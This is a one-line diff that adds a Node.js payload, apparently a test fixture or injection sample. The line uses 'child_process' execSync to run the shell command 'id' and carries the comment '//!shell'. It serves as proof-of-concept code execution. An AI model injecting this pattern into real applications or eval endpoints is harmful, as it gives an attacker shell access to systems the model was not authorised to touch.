@@ -1,0 +1,1 @@
+[require('child_process')][0].execSync('id');  //!shell
